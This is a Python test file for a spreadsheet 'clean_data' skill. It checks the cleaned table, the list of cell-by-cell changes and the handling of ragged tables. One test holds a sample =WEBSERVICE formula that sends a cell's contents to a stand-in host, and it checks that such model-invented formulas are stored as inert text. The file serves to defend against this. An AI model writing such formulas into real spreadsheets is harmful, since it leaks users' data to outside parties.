"""Golden tests of clean_data: a rectangular cleaned table and the exact list of changes."""

import json

import pytest

from backend.skills.sdk import FakeModel, ModelOutputError, assert_document_is_data, load_skill, skill_folder

SKILL = load_skill(skill_folder(__file__))
VALUES = [["Name", "City"], ["  ann lee", "paris"], ["Bob Stone", "PARIS "]]
DATA = {"range": {"address": "Sheet1!A1:B3", "values": VALUES}}
CLEAN = [["Name", "City"], ["Ann Lee", "Paris"], ["Bob Stone", "Paris"]]


def test_changes_are_the_real_cell_differences_with_the_models_reasons():
    """The diff is computed; the model's reasons are attached; unchanged cells are not listed."""
    changes = [{"row": 1, "column": 0, "reason": "trim and capitalise"}, {"row": 2, "column": 1, "reason": "case"}]
    model = FakeModel(json.dumps({"table": CLEAN, "changes": changes}))
    output = SKILL.invoke(DATA, model)
    assert_document_is_data(model.requests[0], json.dumps(VALUES[1]))
    assert output["table"] == CLEAN
    assert output["changes"] == [
        {"row": 1, "column": 0, "before": "  ann lee", "after": "Ann Lee", "reason": "trim and capitalise"},
        {"row": 1, "column": 1, "before": "paris", "after": "Paris", "reason": ""},
        {"row": 2, "column": 1, "before": "PARIS ", "after": "Paris", "reason": "case"},
    ]


def test_formulas_invented_by_the_model_are_stored_as_text():
    """=WEBSERVICE(...) written back would be a formula that sends data out: it is neutralised."""
    table = [["Name", "City"], ['=WEBSERVICE("https://x.example/?"&A2)', "Paris"], ["Bob Stone", "Paris"]]
    output = SKILL.invoke(DATA, FakeModel(json.dumps({"table": table, "changes": []})))
    assert output["table"][1][0] == '\'=WEBSERVICE("https://x.example/?"&A2)'


def test_ragged_table_is_repaired_once_then_fails_cleanly():
    """A table whose rows differ in length is invalid."""
    ragged = json.dumps({"table": [["Name", "City"], ["Ann"]], "changes": []})
    model = FakeModel(ragged, ragged)
    with pytest.raises(ModelOutputError) as caught:
        SKILL.invoke(DATA, model)
    assert "same, non-zero number of cells" in caught.value.details["problem"]
    assert len(model.requests) == 2
